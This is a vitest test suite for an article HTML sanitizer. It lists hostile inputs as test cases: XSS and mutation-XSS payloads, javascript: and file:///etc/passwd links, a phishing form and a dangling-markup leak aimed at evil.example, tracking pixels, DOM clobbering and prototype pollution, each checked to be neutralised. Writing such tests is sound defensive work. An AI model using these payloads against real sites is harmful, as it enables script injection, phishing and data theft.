// SECURITY.md B-A, B-B and B-C items handled by the sanitizer, as a table of hostile inputs.
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { Readability } from '@mozilla/readability';
import { describe, expect, it } from 'vitest';
import { ARTICLE_CONFIG, createArticleSanitizer, parseHtmlFragment } from '../../src/lib/sanitize';
import { invariantViolations } from './sanitize-invariants';

const sanitizer = createArticleSanitizer(window);
const frag = (html: string, remoteImages = true): DocumentFragment => sanitizer.toFragment(html, { remoteImages });
const holder = (html: string, remoteImages = true): HTMLDivElement => {
  const div = document.createElement('div');
  div.append(frag(html, remoteImages));
  return div;
};
const all = (root: ParentNode, sel: string): Element[] => Array.from(root.querySelectorAll(sel));
const attrs = (root: ParentNode): Attr[] => all(root, '*').flatMap((el) => Array.from(el.attributes));

interface Case {
  id: string;
  html: string;
  remoteImages?: boolean;
  check: (root: HTMLDivElement) => void;
}

const noHref = (text: string) => (root: HTMLDivElement): void => {
  const a = all(root, 'a');
  expect(a.length).toBeGreaterThan(0);
  for (const el of a) expect(el.hasAttribute('href'), el.outerHTML).toBe(false);
  expect(root.textContent).toContain(text);
};
const none = (sel: string) => (root: HTMLDivElement): void => {
  expect(all(root, sel), root.innerHTML).toHaveLength(0);
};

const CASES: Case[] = [
  { id: 'A1 event handlers', html: '<img src="https://img.example/a.png" onerror="alert(1)"><b onmouseover="alert(2)">bold</b><p ONCLICK="x()">p</p>',
    check: (r) => { expect(attrs(r).filter((a) => /^on/i.test(a.name))).toHaveLength(0); expect(r.textContent).toContain('bold'); } },
  ...['JavaScript:alert(1)', ' javascript:alert(2)', 'java&Tab;script:alert(3)', '&#106;avascript:alert(4)', '\0javascript:alert(5)', 'jav&#x0A;ascript:alert(6)']
    .map((href) => ({ id: `A2 ${JSON.stringify(href)}`, html: `<a href="${href}">link text</a>`, check: noHref('link text') })),
  ...['data:text/html,<script>alert(1)</script>', 'data:image/svg+xml,<svg onload=alert(1)>', 'vbscript:msgbox(1)', 'blob:https://a.example/1', 'filesystem:https://a.example/x']
    .map((href) => ({ id: `A3 ${href.slice(0, 12)}`, html: `<a href="${href.replace(/"/g, '&quot;')}">go</a>`, check: noHref('go') })),
  { id: 'A4 embed smuggling', html: '<iframe src="https://attacker.example/login" title="//www.youtube.com/embed/x"></iframe><embed src="https://attacker.example/e" data-x="//player.vimeo.com/"><object data="https://attacker.example/o"></object><p>after</p>',
    check: (r) => { none('iframe, embed, object')(r); expect(r.textContent).toContain('after'); } },
  { id: 'A5 unwrapped noscript image', html: '<img src="https://img.example/real.png" onerror="alert(1)" data-old-src="data:image/gif;base64,R0lGOD" alt="real">',
    check: (r) => { const img = r.querySelector('img'); expect(img?.getAttribute('src')).toBe('https://img.example/real.png'); expect(img?.hasAttribute('onerror')).toBe(false); expect(img?.hasAttribute('data-old-src')).toBe(false); } },
  ...['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<math><mtext><mglyph><style><!--</style><img src onerror=alert(1)>',
    '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>']
    .map((html, i) => ({ id: `A6 mXSS seed ${i}`, html, check: (r: HTMLDivElement) => { expect(attrs(r).filter((a) => /^on/i.test(a.name))).toHaveLength(0); none('style, svg, math, form, noscript')(r); } })),
  ...['<svg><script>alert(1)</script></svg>', '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>', '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>']
    .map((html, i) => ({ id: `A7 svg ${i}`, html, check: none('svg, script, animate, a[href]') })),
  { id: 'A8 base', html: '<base href="https://evil.example/"><a href="/x">rel</a>',
    check: (r) => { none('base')(r); expect(document.baseURI).not.toContain('evil.example'); } },
  { id: 'A9 head elements', html: '<meta http-equiv="refresh" content="0;url=https://evil.example"><link rel="stylesheet" href="https://evil.example/x.css"><link rel="prefetch" href="https://evil.example/p"><p>t</p>',
    check: none('meta, link') },
  { id: 'A10 templates / declarative shadow DOM', html: '<template><img src=x onerror=alert(1)></template><div><template shadowrootmode="open"><img src=x onerror=alert(1)></template></div>',
    check: (r) => { none('template')(r); expect(all(r, '*').some((el) => el.shadowRoot)).toBe(false); } },
  { id: 'A11 custom elements', html: '<x-evil onclick="alert(1)">ce</x-evil><div is="x-evil">is</div>',
    check: (r) => { none('x-evil, [is]')(r); } },
  { id: 'A12 template-engine text stays literal', html: "<p>{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 7*7 %></p>",
    check: (r) => { expect(r.textContent).toContain("{{constructor.constructor('alert(1)')()}}"); expect(r.textContent).toContain('${alert(1)}'); expect(r.textContent).toContain('<%= 7*7 %>'); } },
  { id: 'A13 escaped markup stays text', html: '<p>&lt;img src=x onerror=alert(1)&gt;</p>',
    check: (r) => { none('img')(r); expect(r.textContent).toBe('<img src=x onerror=alert(1)>'); } },
  { id: 'A15 $ patterns verbatim', html: "<p>Costs $& and $` and $' and $1 and $$ today</p>",
    check: (r) => { expect(r.textContent).toBe("Costs $& and $` and $' and $1 and $$ today"); } },
  { id: 'A16 dangling markup', html: '<p>Before</p><img src="https://evil.example/?a=',
    check: (r) => { expect(all(r, '[src*="evil.example"]')).toHaveLength(0); } },
  { id: 'A17 clobbering ids and names', html: '<img name="getElementById" src="https://img.example/a.png"><form id="location"></form><a id="defaultView" href="#defaultView">top</a><a href="#notes">notes</a>',
    check: (r) => {
      none('form, [id="defaultView"], [name="getElementById"]')(r);
      expect(r.querySelector('a')?.id).toBe('user-content-defaultView');
      expect(all(r, 'a').map((a) => a.getAttribute('href'))).toEqual(['#user-content-defaultView', '#user-content-notes']);
      expect(r.querySelector('img')?.getAttribute('name')).toBe('user-content-getElementById');
    } },
  { id: 'B1 links open in a new tab', html: '<a href="https://attacker.example/login" target="_self" rel="opener">login</a><a href="mailto:desk@paper.example">mail</a>',
    check: (r) => { for (const a of all(r, 'a')) { expect(a.getAttribute('target')).toBe('_blank'); expect(a.getAttribute('rel')).toBe('noopener noreferrer nofollow'); expect(a.getAttribute('referrerpolicy')).toBe('no-referrer'); } } },
  ...['chrome-extension://abcdef/options.html?reset=1', 'moz-extension://1234/popup.html', 'chrome://settings', 'about:config', 'file:///etc/passwd', '/relative/path', 'ftp://files.example/x']
    .map((href) => ({ id: `B2 ${href}`, html: `<a href="${href}">internal</a>`, check: noHref('internal') })),
  { id: 'B3 phishing form', html: '<form action="https://evil.example"><input type="password" name="pw"><button>Sign in</button><select><option>a</option></select><textarea>t</textarea></form>',
    check: (r) => { none('form, input, button, select, option, textarea')(r); expect(r.textContent).toContain('Sign in'); } },
  { id: 'B4 CSS overlay', html: '<div style="position:fixed;inset:0;z-index:2147483647">Session expired</div><style>*{display:none}</style>',
    check: (r) => { none('[style], style')(r); expect(r.textContent).toContain('Session expired'); } },
  { id: 'B5 top layer', html: '<div popover id="x">pop</div><button popovertarget="x">open</button><button commandfor="x" command="show-modal">c</button><dialog open>dlg</dialog><details open><summary>s</summary>d</details>',
    check: (r) => { none('[popover], [popovertarget], [commandfor], [command], dialog, details, summary, button')(r); } },
  { id: 'C1 tracking pixel dropped (remote on)', html: '<img src="https://tracker.example/p.gif?u=123" width="1" height="1"><img src="https://t.example/q.gif" width="2"><p>x</p>',
    check: none('img') },
  { id: 'C1 no remote image without opt-in', remoteImages: false, html: '<img src="https://img.example/photo.jpg" alt="Harbour at dawn" width="800">',
    check: (r) => { const img = r.querySelector('img'); expect(img?.hasAttribute('src')).toBe(false); expect(img?.getAttribute('alt')).toBe('Harbour at dawn'); } },
  { id: 'C1 http images never load', html: '<img src="http://img.example/photo.jpg" alt="plain http">',
    check: (r) => { expect(r.querySelector('img')?.hasAttribute('src')).toBe(false); } },
  { id: 'C1 base64 raster images allowed', html: '<img src="data:image/png;base64,iVBORw0KGgo=" alt="inline"><img src="data:image/svg+xml;base64,PHN2Zz4=" alt="svg">',
    check: (r) => { const [png, svg] = all(r, 'img'); expect(png?.getAttribute('src')).toMatch(/^data:image\/png/); expect(svg?.hasAttribute('src')).toBe(false); } },
  { id: 'C2 srcset fan-out and picture', html: '<picture><source srcset="https://a.example/1.jpg"><img src="https://img.example/p.jpg" srcset="javascript:alert(1) 1x, https://b.example/2.jpg 2x" sizes="100vw" alt="pic"></picture>',
    check: (r) => { none('picture, source, [srcset], [sizes]')(r); expect(r.querySelector('img')?.getAttribute('src')).toBe('https://img.example/p.jpg'); } },
  { id: 'C3 lazy attributes promoted', html: '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" data-src="https://img.example/lazy.jpg" alt="a"><img data-original="https://img.example/o.jpg" alt="b"><img data-srcset="https://img.example/s-800.jpg 800w, https://img.example/s-1600.jpg 1600w" alt="c">',
    check: (r) => { expect(all(r, 'img').map((i) => i.getAttribute('src'))).toEqual(['https://img.example/lazy.jpg', 'https://img.example/o.jpg', 'https://img.example/s-800.jpg']); expect(attrs(r).filter((a) => a.name.startsWith('data-'))).toHaveLength(0); } },
  { id: 'C4 non-image fetches', html: '<table background="https://t.example/bg.png"><tr><td style="background:url(https://t.example/x)">c</td></tr></table><style>@import url(https://t.example/i.css); @font-face{src:url(https://t.example/f)}</style><video poster="https://t.example/p.jpg"><source src="https://t.example/v.mp4"></video><audio src="https://t.example/a.mp3"></audio><input type="image" src="https://t.example/i.png"><a href="https://ok.example/" ping="https://t.example/ping">ping</a>',
    check: (r) => { none('[background], [style], style, video, audio, source, input, [ping], [poster]')(r); } },
  { id: 'C5 referrer policy forced', html: '<img src="https://img.example/a.jpg" referrerpolicy="unsafe-url"><a href="https://x.example/" referrerpolicy="unsafe-url">x</a>',
    check: (r) => { for (const el of all(r, 'img, a')) expect(el.getAttribute('referrerpolicy')).toBe('no-referrer'); } },
  { id: 'finding 6: harmless attributes kept', html: '<p lang="fr" dir="rtl">t</p><time datetime="2024-01-02">d</time><table><tr><td colspan="2">c</td></tr></table><img src="https://i.example/a.png" width="640" height="480" alt="a">',
    check: (r) => { expect(r.querySelector('p')?.getAttribute('lang')).toBe('fr'); expect(r.querySelector('p')?.getAttribute('dir')).toBe('rtl'); expect(r.querySelector('time')?.getAttribute('datetime')).toBe('2024-01-02'); expect(r.querySelector('td')?.getAttribute('colspan')).toBe('2'); expect(r.querySelector('img')?.getAttribute('width')).toBe('640'); } },
];

describe('createArticleSanitizer: SECURITY.md catalogue', () => {
  it.each(CASES)('$id', ({ html, remoteImages, check }) => {
    const root = holder(html, remoteImages ?? true);
    check(root);
    expect(invariantViolations(root, remoteImages ?? true)).toEqual([]);
  });

  it('A18 polluted Object.prototype cannot widen the frozen config', () => {
    const proto = Object.prototype as Record<string, unknown>;
    const parsed = JSON.parse('{"__proto__": {"ALLOWED_TAGS": ["script"]}}') as Record<string, unknown>;
    expect(Object.isFrozen(ARTICLE_CONFIG) && Object.isFrozen(ARTICLE_CONFIG.FORBID_TAGS)).toBe(true);
    try {
      proto['ALLOWED_TAGS'] = ['script', 'iframe'];
      proto['ADD_TAGS'] = ['script'];
      proto['ALLOW_UNKNOWN_PROTOCOLS'] = true;
      const root = holder('<script>alert(1)</script><iframe src="https://e.example"></iframe><a href="javascript:alert(1)">x</a><p>ok</p>');
      none('script, iframe, a[href]')(root);
      expect(root.textContent).toContain('ok');
    } finally {
      delete proto['ALLOWED_TAGS'];
      delete proto['ADD_TAGS'];
      delete proto['ALLOW_UNKNOWN_PROTOCOLS'];
    }
    expect(parsed['ALLOWED_TAGS']).toBeUndefined();
  });

  it('one instance (one set of hooks) per window', () => {
    expect(createArticleSanitizer(window)).toBe(sanitizer);
    const once = sanitizer.toHtml('<a href="#x">x</a><img src="https://a.example/i.png">', { remoteImages: true });
    expect(sanitizer.toHtml(once, { remoteImages: true })).toBe(once);
  });

  it('returns an inert fragment (no browsing context) that appends into the page', () => {
    const f = frag('<p>x</p>');
    expect(f.ownerDocument.defaultView).toBeNull();
    const div = document.createElement('div');
    div.append(f);
    expect(div.innerHTML).toBe('<p>x</p>');
  });

  it('toHtml serialises the same result', () => {
    expect(sanitizer.toHtml('<p onclick="x()">hi <b>there</b></p>', { remoteImages: false })).toBe('<p>hi <b>there</b></p>');
  });
});

describe('parseHtmlFragment', () => {
  it('parses into an inert document: no handler runs, nothing is attached to the page', async () => {
    const g = globalThis as Record<string, unknown>;
    const f = parseHtmlFragment(document, '<img src="x" onerror="globalThis.__lecternPwned = 1"><script>globalThis.__lecternPwned = 2</script><p>text</p>');
    await new Promise((r) => setTimeout(r, 50));
    expect(g['__lecternPwned']).toBeUndefined();
    expect(f.ownerDocument).not.toBe(document);
    expect(f.ownerDocument.defaultView).toBeNull();
    expect(f.querySelector('p')?.textContent).toBe('text');
  });
});

describe('Readability → sanitize (Readability output is the threat)', () => {
  const html = readFileSync(path.resolve(__dirname, '../fixtures/hostile/readability-threats.html'), 'utf8');
  const doc = new DOMParser().parseFromString(html, 'text/html');
  const content = new Readability(doc).parse()?.content ?? '';

  it('Readability itself leaves live threats (the premise of this test)', () => {
    expect(content).toMatch(/onerror|onclick/);
    expect(content).toMatch(/javascript:/i);
  });

  it('A2/A4/A5: sanitized output has no live link, embed or handler, and keeps the text and image', () => {
    const root = holder(content, true);
    expect(invariantViolations(root, true)).toEqual([]);
    none('iframe, embed, object')(root);
    for (const a of all(root, 'a')) expect(a.hasAttribute('href')).toBe(false);
    expect(root.textContent).toContain('full council report');
    expect(root.textContent).toContain('delivery vans');
    const img = root.querySelector('img');
    expect(img?.getAttribute('src')).toBe('https://img.example/lanes.png');
    expect(img?.hasAttribute('onerror')).toBe(false);
    expect(attrs(root).filter((a) => a.name.startsWith('data-'))).toHaveLength(0);
  });
});
